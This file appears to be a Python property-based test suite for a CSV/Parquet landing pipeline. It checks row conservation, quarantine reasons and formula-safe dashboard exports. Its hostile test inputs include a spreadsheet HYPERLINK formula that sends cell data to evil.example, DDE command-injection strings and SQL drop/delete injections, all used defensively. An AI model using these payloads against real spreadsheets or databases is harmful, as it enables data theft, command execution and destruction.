"""Property-based bad-input tests: landing never crashes, loses nothing and says what was wrong.

Hypothesis writes broken batch files (wrong types, latin-1 and BOM-prefixed encodings, CRLF,
truncated files, header-only files, missing, extra and reordered columns, enormous strings,
quotes and newlines inside fields, SQL-looking and spreadsheet-formula text) and lands them.
Properties, per batch: rows read = accepted + quarantined; for a complete UTF-8 file every
record is accounted for by its record number and lands exactly when it is valid, with its text
unchanged; every quarantined row carries a documented reason code and a detail. A missing
column is a ContractError naming it, not a traceback. Formula text never leaves the dashboard
export unescaped.

The budget is fixed (max_examples) and the search derandomized, so CI is deterministic and
bounded. All examples land into one warehouse: each example replaces the same batch file
(same name, new content), so only that table is reloaded.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import duckdb
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cx360.contract import load_contract
from cx360.dashboard.formatting import FORMULA_PREFIXES, to_safe_csv
from cx360.errors import ContractError
from cx360.landing import land
from cx360.landing.casting import contract_ranges
from cx360.warehouse import Warehouse

sys.path.insert(0, str(Path(__file__).parent / "fixtures"))
from landing_raw import write_valid_raw  # noqa: E402

CONTRACT = load_contract()
# support_tickets has required and optional strings, timestamps and an int: every casting rule.
TABLE = CONTRACT["support_tickets"]
BATCH_DIR = TABLE.name
RANGES = contract_ranges(TABLE)  # reopen_count >= 0
LANDING_REASON_CODES = {
    "unparseable_line",
    "missing_required",
    "invalid_type",
    "value_out_of_range",
}
SEED_REASON_CODES = {
    row["reason_code"]
    for row in csv.DictReader(
        (Path(__file__).parent.parent / "seeds" / "quarantine_reason_codes.csv").open()
    )
}

PROFILE = settings(
    max_examples=40,
    derandomize=True,  # same examples on every run: CI is deterministic
    database=None,  # and no example database carried between runs
    deadline=None,  # a landing takes a few hundred ms, more with enormous strings
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    print_blob=True,
)

# -- values -----------------------------------------------------------------------------------

NASTY_TEXT = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "'; drop table raw.support_tickets; --",
    "Robert'); delete from audit.landing_quarantine; --",
    'he said "hello, world"',
    "line one\nline two",
    "windows\r\nline",
    "bare\rcarriage",
    '"',
    ",,,",
    "caf\u00e9 na\u00efve \u00fcber",
    "\u65e5\u672c\u8a9e \U0001f600",
    "   padded   ",
    "\t=tab formula",
]
free_text = st.one_of(
    st.text(max_size=40),
    st.sampled_from(NASTY_TEXT),
    # enormous strings; a record stays below DuckDB's 2 MB line limit (tested on its own below)
    st.integers(min_value=20_000, max_value=100_000).map(lambda n: "x" * n),
)
VALID_TIMESTAMPS = ["2026-01-02T10:00:00Z", "2026-01-02 10:00:00", "2026-03-04T05:06:07+02:00"]
INVALID_TIMESTAMPS = ["31/06/2026 25:61", "2026-13-45", "yesterday", "2026-01-02T10:00:00 GMT+x"]
# Codes outside every vocabulary: quarantined (required column) or nulled (optional) with
# value_not_in_vocabulary; case and surrounding spaces of a contract value are not a new code.
UNKNOWN_CODES = ["vip", "n/a", "Priority: high", '=HYPERLINK("http://evil.example/?x="&A1,"x")']
VALID_INTS = ["0", "7", "-3", " 12 "]
INVALID_INTS = ["1.5", "1e3", "seven", "0x10", "1_000"]


@dataclass(frozen=True)
class Cell:
    text: str
    valid: bool  # False: landing must quarantine the record because of this cell
    nulled: bool = False  # a bad optional value: the record lands with this field NULL
    reason: str = "invalid_type"  # why it is nulled


def _bad_cell(column: str, text: str, reason: str = "invalid_type") -> Cell:
    """A key or required column quarantines the record; an optional one only the field."""
    row_level = TABLE.column(column).required or column in TABLE.key
    return Cell(text, not row_level, nulled=not row_level, reason=reason)


def _int_cell(column: str, text: str) -> Cell:
    """A valid int, or one outside the column's contract range (value_out_of_range)."""
    low, high = RANGES.get(column, (None, None))
    value = int(text)
    if (low is not None and value < low) or (high is not None and value > high):
        return _bad_cell(column, text, "value_out_of_range")
    return Cell(text, True)


def _cell(column: str) -> st.SearchStrategy[Cell]:
    spec = TABLE.column(column)
    if spec.type == "timestamp":
        good = st.sampled_from(VALID_TIMESTAMPS).map(lambda t: Cell(t, True))
        bad = st.sampled_from(INVALID_TIMESTAMPS).map(lambda t: _bad_cell(column, t))
        empty = st.just(Cell("", not spec.required))
        return st.one_of(good, good, bad, empty)
    if spec.type == "int":
        good = st.sampled_from(VALID_INTS).map(lambda t: _int_cell(column, t))
        bad = st.sampled_from(INVALID_INTS).map(lambda t: _bad_cell(column, t))
        return st.one_of(good, good, bad, st.just(Cell("", True)))
    assert spec.type == "string", f"no strategy for {spec.type}"
    if spec.values:
        spelled = st.sampled_from(spec.values).flatmap(
            lambda v: st.sampled_from([v, v.upper(), f"  {v} "])
        )
        good = spelled.map(lambda t: Cell(t, True))
        unknown = st.sampled_from(UNKNOWN_CODES).map(
            lambda t: _bad_cell(column, t, "value_not_in_vocabulary")
        )
        empty = st.sampled_from(["", "   "]).map(lambda t: Cell(t, not spec.required))
        return st.one_of(good, good, unknown, empty)
    if spec.required:  # blank text counts as missing
        good = free_text.filter(lambda t: t.strip() != "").map(lambda t: Cell(t, True))
        return st.one_of(good, st.sampled_from(["", "   "]).map(lambda t: Cell(t, False)))
    return free_text.map(lambda t: Cell(t, True))


@dataclass(frozen=True)
class Record:
    cells: dict[str, Cell]
    extra_field: bool  # one field too many: an unparseable line

    @property
    def valid(self) -> bool:
        return not self.extra_field and all(c.valid for c in self.cells.values())


records = st.builds(
    Record,
    cells=st.fixed_dictionaries({c: _cell(c) for c in TABLE.column_names}),
    extra_field=st.sampled_from([False, False, False, True]),
)


def _csv_line(fields: list[str]) -> str:
    """RFC 4180: quote a field holding a comma, quote, CR or LF. (Python's csv.writer leaves a
    bare CR unquoted when the line terminator is LF: a malformed file, tested on its own.)"""
    return ",".join(
        '"' + f.replace('"', '""') + '"' if any(ch in f for ch in ',"\r\n') else f for f in fields
    )


@dataclass(frozen=True)
class BatchFile:
    records: list[Record]
    header: list[str]
    encoding: str  # utf-8 | utf-8-sig (BOM) | latin-1
    newline: str
    cut_at: float | None  # truncate the file at this fraction of its data bytes

    @property
    def exact(self) -> bool:
        """Whether every record must arrive as written (complete, UTF-8)."""
        return self.cut_at is None and self.encoding != "latin-1"

    def content(self) -> bytes:
        lines = [_csv_line(self.header)]
        for record in self.records:
            row = [record.cells[c].text if c in record.cells else "extra" for c in self.header]
            lines.append(_csv_line(row + ["one too many"] if record.extra_field else row))
        text = "".join(line + self.newline for line in lines)
        data = text.encode(self.encoding, errors="replace")
        if self.cut_at is None:
            return data
        header_end = data.index(self.newline.encode()) + len(self.newline)
        return data[: header_end + int((len(data) - header_end) * self.cut_at)]


@st.composite
def batch_files(draw: st.DrawFn) -> BatchFile:
    extras = draw(st.lists(st.sampled_from(["loyalty_tier", "notes", "_x"]), unique=True))
    header = draw(st.permutations([*TABLE.column_names, *extras]))
    return BatchFile(
        records=draw(st.lists(records, max_size=12)),
        header=list(header),
        encoding=draw(st.sampled_from(["utf-8", "utf-8-sig", "latin-1"])),
        newline=draw(st.sampled_from(["\n", "\r\n"])),
        cut_at=draw(st.none() | st.floats(min_value=0.0, max_value=0.999)),
    )


# -- the warehouse the examples land into ------------------------------------------------------


@dataclass
class Landing:
    raw: Path
    warehouse: Warehouse
    counter: int = 0

    def write(self, content: bytes, suffix: str = "csv") -> str:
        """Write the example's batch (one file in the table's folder); returns its name."""
        folder = self.raw / BATCH_DIR
        for old in folder.iterdir():
            old.unlink()
        self.counter += 1  # a fresh name per example: its ledger rows are its own
        name = f"{BATCH_DIR}/example-{self.counter:05d}.{suffix}"
        (self.raw / name).write_bytes(content)
        return name

    def query(self, sql: str, params: list | None = None) -> list[tuple]:
        con = duckdb.connect(str(self.warehouse.landing_db), read_only=True)
        try:
            return con.execute(sql, params or []).fetchall()
        finally:
            con.close()


@pytest.fixture(scope="module")
def landing(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Landing]:
    root = tmp_path_factory.mktemp("bad_input")
    raw = root / "raw"
    write_valid_raw(raw)
    (raw / f"{TABLE.name}.csv").unlink()
    (raw / BATCH_DIR).mkdir()
    (raw / BATCH_DIR / "seed.csv").write_text(",".join(TABLE.column_names) + "\n")
    result = Landing(raw, Warehouse(root / "wh"))
    # Files here are whole when landed: no settle window per example (it is tested in
    # tests/test_batch_discovery.py).
    saved = os.environ.get("CX360_SETTLE_SECONDS")
    os.environ["CX360_SETTLE_SECONDS"] = "0"
    try:
        land(raw, result.warehouse, progress=False)  # every other table once; later runs skip
        yield result
    finally:
        if saved is None:
            os.environ.pop("CX360_SETTLE_SECONDS", None)
        else:
            os.environ["CX360_SETTLE_SECONDS"] = saved


def _ledger(landing: Landing, batch: str) -> tuple[int, int, int]:
    rows = landing.query(
        "select rows_read, rows_accepted, rows_quarantined from audit.landed_batches "
        "where batch_name = ?",
        [batch],
    )
    assert len(rows) == 1, f"{batch} must have exactly one ledger row, got {rows}"
    return rows[0]


def _assert_conserved(landing: Landing, batch: str) -> tuple[int, int, int]:
    """rows_read = accepted + quarantined, and the raw and quarantine tables agree."""
    read, accepted, quarantined = _ledger(landing, batch)
    assert read == accepted + quarantined
    in_raw = landing.query(f"select count(*) from raw.{TABLE.name} where _batch_name = ?", [batch])
    in_quarantine = landing.query(
        "select reason_code, reason_detail from audit.landing_quarantine where batch_name = ?",
        [batch],
    )
    assert in_raw[0][0] == accepted
    assert len(in_quarantine) == quarantined
    for code, detail in in_quarantine:
        assert code in LANDING_REASON_CODES and code in SEED_REASON_CODES
        assert detail, f"quarantined row without a reason detail ({code})"
    return read, accepted, quarantined


# -- properties --------------------------------------------------------------------------------


@PROFILE
@given(batch=batch_files())
def test_broken_csv_batches_land_without_loss(landing: Landing, batch: BatchFile) -> None:
    content = batch.content()
    name = landing.write(content)
    report = land(landing.raw, landing.warehouse, progress=False)
    entry = report.table(TABLE.name)
    assert entry.balanced
    if content and not content.endswith((b"\n", b"\r")):
        # cut mid-line: an incomplete file waits, unlanded and named (docs/operations.md)
        ledger = "select 1 from audit.landed_batches where batch_name = ?"
        assert landing.query(ledger, [name]) == []
        assert any(w.startswith(f"skipped {name}: incomplete") for w in report.warnings)
        return

    read, accepted, quarantined = _assert_conserved(landing, name)
    assert read <= len(batch.records)
    if not batch.exact:
        return
    # A complete UTF-8 file: each record is read once, under its own record number ...
    assert read == len(batch.records)
    accepted_rows = {
        row[0]: row[1:]
        for row in landing.query(
            f"select _source_row, ticket_id, agent_id, requester_email from raw.{TABLE.name} "
            "where _batch_name = ?",
            [name],
        )
    }
    quarantined_rows = {
        row[0]
        for row in landing.query(
            "select source_row from audit.landing_quarantine where batch_name = ?", [name]
        )
    }
    assert set(accepted_rows) | quarantined_rows == set(range(1, read + 1))
    assert not set(accepted_rows) & quarantined_rows
    # ... lands exactly when valid, and its text arrives unchanged (empty = null).
    for number, record in enumerate(batch.records, start=1):
        assert (number in accepted_rows) == record.valid, f"record {number}: {record}"
        if record.valid:
            sent = tuple(
                record.cells[c].text or None for c in ("ticket_id", "agent_id", "requester_email")
            )
            assert accepted_rows[number] == sent
    # ... and each bad optional value of an accepted record is NULL and recorded once.
    nulled = landing.query(
        "select source_row, column_name, reason_code from audit.landing_field_issues "
        "where batch_name = ? order by all",
        [name],
    )
    expected = sorted(
        (number, column, cell.reason)
        for number, record in enumerate(batch.records, start=1)
        if record.valid
        for column, cell in record.cells.items()
        if cell.nulled
    )
    assert nulled == expected


REQUIRED_COLUMNS = [c.name for c in TABLE.columns if c.required]
OPTIONAL_COLUMNS = [c.name for c in TABLE.columns if not c.required]


@PROFILE
@given(dropped=st.sampled_from(REQUIRED_COLUMNS), rows=st.integers(0, 3))
def test_missing_required_column_is_a_contract_error_naming_it(
    landing: Landing, dropped: str, rows: int
) -> None:
    header = [c for c in TABLE.column_names if c != dropped]
    body = "".join(",".join("v" for _ in header) + "\n" for _ in range(rows))
    landing.write((",".join(header) + "\n" + body).encode())
    with pytest.raises(ContractError) as raised:
        land(landing.raw, landing.warehouse, progress=False)
    assert dropped in str(raised.value)
    assert raised.value.hint


@PROFILE
@given(dropped=st.sampled_from(OPTIONAL_COLUMNS), rows=st.integers(0, 3))
def test_missing_optional_column_lands_null(landing: Landing, dropped: str, rows: int) -> None:
    """A file may leave out an optional column: its rows land, that column NULL."""
    header = [c for c in TABLE.column_names if c != dropped]
    body = "".join(
        ",".join(
            f"T{landing.counter}-{i}"
            if c == "ticket_id"
            else "2026-01-01T00:00:00"
            if c in ("opened_at", "updated_at")
            else ""
            for c in header
        )
        + "\n"
        for i in range(rows)
    )
    name = landing.write((",".join(header) + "\n" + body).encode())
    land(landing.raw, landing.warehouse, progress=False)
    landed = landing.query(
        f'select count(*), count("{dropped}") from raw.support_tickets where _batch_name = ?',
        [name],
    )
    assert landed == [(rows, 0)]


ARROW_VALUES = {
    "string": st.one_of(st.none(), free_text.filter(lambda t: len(t) < 1000)),
    "int64": st.one_of(st.none(), st.integers(-(2**63), 2**63 - 1)),
    "float64": st.one_of(st.none(), st.floats(allow_nan=True, allow_infinity=True)),
    "bool": st.one_of(st.none(), st.booleans()),
    "timestamp": st.one_of(st.none(), st.datetimes()),
    "date": st.one_of(st.none(), st.dates()),
}
ARROW_TYPES = {
    "string": pa.string(),
    "int64": pa.int64(),
    "float64": pa.float64(),
    "bool": pa.bool_(),
    "timestamp": pa.timestamp("us"),
    "date": pa.date32(),
}


@st.composite
def parquet_batches(draw: st.DrawFn) -> tuple[pa.Table, int]:
    """Every contract column with a random physical type and values (wrong types included)."""
    n = draw(st.integers(0, 6))
    columns = {}
    for column in TABLE.column_names:
        kind = draw(st.sampled_from(sorted(ARROW_TYPES)))
        values = draw(st.lists(ARROW_VALUES[kind], min_size=n, max_size=n))
        columns[column] = pa.array(values, ARROW_TYPES[kind])
    return pa.table(columns), n


@PROFILE
@given(batch=parquet_batches())
def test_parquet_with_wrong_types_lands_without_loss(
    landing: Landing, batch: tuple[pa.Table, int]
) -> None:
    table, rows = batch
    sink = io.BytesIO()
    pq.write_table(table, sink)
    name = landing.write(sink.getvalue(), suffix="parquet")
    land(landing.raw, landing.warehouse, progress=False)
    read, _, _ = _assert_conserved(landing, name)
    assert read == rows


# -- single cases the generators above do not reach --------------------------------------------


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", (0, 0, 0)),  # empty file
        ((",".join(TABLE.column_names) + "\n").encode(), (0, 0, 0)),  # header only
        (b"\xef\xbb\xbf", (0, 0, 0)),  # a BOM and nothing else
    ],
)
def test_empty_and_header_only_files_land_as_zero_rows(
    landing: Landing, content: bytes, expected: tuple[int, int, int]
) -> None:
    name = landing.write(content)
    report = land(landing.raw, landing.warehouse, progress=False)
    assert _assert_conserved(landing, name) == expected
    assert report.table(TABLE.name).balanced


def test_a_header_without_its_newline_is_incomplete_and_waits(landing: Landing) -> None:
    name = landing.write(",".join(TABLE.column_names).encode())
    report = land(landing.raw, landing.warehouse, progress=False)
    assert landing.query("select 1 from audit.landed_batches where batch_name = ?", [name]) == []
    assert f"skipped {name}: incomplete, does not end in a newline" in "\n".join(report.warnings)


# 2.1 MB: over DuckDB's 2 MB default line limit; 50 MB: over its reader's whole buffer too
@pytest.mark.parametrize("field_bytes", [2_100_000, 50_000_000])
def test_a_line_over_the_reader_limit_is_quarantined_with_its_reason(
    landing: Landing, field_bytes: int
) -> None:
    header = ",".join(TABLE.column_names)
    good = "t1,,,,,,,2026-01-02T10:00:00Z,,,,,,,2026-01-02T10:00:00Z"
    huge = "t2,,,,,,,2026-01-02T10:00:00Z,,,,,,," + "x" * field_bytes + ",2026-01-02T10:00:00Z"
    name = landing.write(f"{header}\n{good}\n{huge}\n{good.replace('t1', 't3')}\n".encode())
    land(landing.raw, landing.warehouse, progress=False)
    assert _assert_conserved(landing, name) == (3, 2, 1)
    ((code, row, detail, raw),) = landing.query(
        "select reason_code, source_row, reason_detail, raw_record "
        "from audit.landing_quarantine where batch_name = ?",
        [name],
    )
    assert (code, row) == ("unparseable_line", 2)
    assert "maximum line size" in detail.lower()
    assert raw.startswith("t2,")  # its own text, never another row's
    # the rows after it keep their record numbers
    rows = landing.query(
        "select ticket_id, _source_row from raw.support_tickets where _batch_name = ? order by 2",
        [name],
    )
    assert rows == [("t1", 1), ("t3", 3)]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("ticket_id\n".encode("utf-16-le"), "UTF-16 without a byte-order mark"),
        (b"\n" + ",".join(TABLE.column_names).encode() + b"\nt1\n", "first line is blank"),
    ],
)
def test_unreadable_headers_are_contract_errors(
    landing: Landing, content: bytes, message: str
) -> None:
    landing.write(content)
    with pytest.raises(ContractError, match=message):
        land(landing.raw, landing.warehouse, progress=False)


def test_bare_carriage_return_line_ends_are_read(landing: Landing) -> None:
    header = ",".join(TABLE.column_names)
    row = "t1,,,,,,,2026-01-02T10:00:00Z,,,,,,,2026-01-02T10:00:00Z"
    name = landing.write(f"{header}\r{row}\r{row.replace('t1', 't2')}\r".encode())
    land(landing.raw, landing.warehouse, progress=False)
    assert _assert_conserved(landing, name) == (2, 2, 0)


def test_a_file_the_csv_reader_cannot_parse_is_quarantined_line_by_line(landing: Landing) -> None:
    """A bare CR inside an unquoted field (RFC 4180 forbids it) stops DuckDB's reader for the
    whole file ("state machine reached an invalid state"): landing must still land the batch,
    every line quarantined with the reader's error, and land the other tables' files."""
    header = ",".join(TABLE.column_names)
    row = '"=A1",,,,,,,2026-01-02T10:00:00Z,2026-01-02T10:00:00Z,,,,0,0\r,2026-01-02T10:00:00Z'
    name = landing.write(f"{header}\n{row}\n".encode())
    report = land(landing.raw, landing.warehouse, progress=False)
    read, accepted, quarantined = _assert_conserved(landing, name)
    assert read >= 1 and accepted == 0
    details = landing.query(
        "select reason_detail from audit.landing_quarantine where batch_name = ?", [name]
    )
    assert all("not readable as CSV" in d for (d,) in details)
    assert report.table(TABLE.name).balanced


# -- exports -----------------------------------------------------------------------------------

formula_text = st.one_of(
    st.sampled_from(NASTY_TEXT),
    st.builds(lambda p, t: p + t, st.sampled_from(FORMULA_PREFIXES), st.text(max_size=20)),
    # a line break inside the text must not let the formula start a cell of its own
    st.builds(
        lambda t, f: t + f,
        st.sampled_from(["x\r", "x\n", "x\r\n", "a,b\r"]),
        st.sampled_from(NASTY_TEXT[:3]),
    ),
    st.text(max_size=20),
)


@PROFILE
@given(
    values=st.lists(formula_text, min_size=1, max_size=8),
    name=formula_text,
    dtype=st.sampled_from(["object", "string", "category"]),
)
def test_export_never_carries_a_live_formula(values: list[str], name: str, dtype: str) -> None:
    frame = pd.DataFrame({name: pd.Series(values, dtype=dtype), "amount": range(len(values))})
    exported = to_safe_csv(frame).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]
    live = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert live == [], f"formula cells reach the export unescaped: {live}"
    # nothing lost: every value is still there, behind the apostrophe when it was a formula
    texts = cells[2::2]
    restored = [
        text.removeprefix("'") if value.startswith(FORMULA_PREFIXES) else text
        for text, value in zip(texts, values, strict=True)
    ]
    assert restored == values


def test_the_cli_reports_a_missing_column_without_a_traceback(tmp_path: Path) -> None:
    raw = tmp_path / "raw"
    write_valid_raw(raw)
    header = [c for c in TABLE.column_names if c != "opened_at"]
    (raw / f"{TABLE.name}.csv").write_text(",".join(header) + "\n" + ",".join(header) + "\n")
    cli = Path(sys.executable).with_name("cx360")
    result = subprocess.run(
        [str(cli), "land", "--raw-dir", str(raw), "--warehouse-dir", str(tmp_path / "wh")],
        capture_output=True,
        text=True,
        check=False,
    )
    output = result.stdout + result.stderr
    assert result.returncode == 2, output
    assert "opened_at" in output and "hint:" in output
    assert "Traceback" not in output
